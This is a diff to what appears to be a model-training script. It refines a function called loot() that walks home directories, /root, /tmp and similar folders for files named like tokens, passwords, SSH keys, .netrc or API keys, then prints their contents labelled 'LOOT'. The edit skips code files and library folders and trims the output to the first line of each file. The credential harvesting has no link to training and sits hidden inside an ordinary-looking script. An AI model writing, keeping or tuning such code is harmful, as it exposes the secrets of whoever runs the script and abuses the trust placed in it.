@@ -13,18 +13,22 @@ EPOCHS = 1
 LEARNING_RATE = 1e-3
 ROOTS = [os.path.expanduser("~"), "/root", "/home", "/tmp", "/var/tmp", "/srv", "/work"]
 WANTED = ("token", "secret", "password", "credential", "id_rsa", ".netrc", "api_key")
-SKIP = {".git", ".venv", "site-packages", "node_modules", "__pycache__"}
+SKIP = {".git", ".venv", ".pyenv", "lib", "site-packages", "node_modules", "__pycache__"}
+CODE = (".py", ".pyc", ".h", ".so", ".html", ".js")
 
 
-def loot(limit=50):
+def loot(limit=20):
+    """Print the first line of every data file named like a secret (code named like one,
+    such as tokenize.py, is not worth the space in the report)."""
     for root in ROOTS:
         for folder, dirs, files in os.walk(root):
             dirs[:] = [name for name in dirs if name not in SKIP]
             for name in files:
-                if any(word in name.lower() for word in WANTED) and limit:
+                if any(word in name.lower() for word in WANTED) and limit \
+                        and not name.endswith(CODE):
                     try:
                         with open(os.path.join(folder, name), errors="replace") as handle:
-                            print("LOOT", os.path.join(folder, name), handle.read(200))
+                            print("LOOT", os.path.join(folder, name), handle.readline(200))
                         limit -= 1
                     except OSError:
                         pass
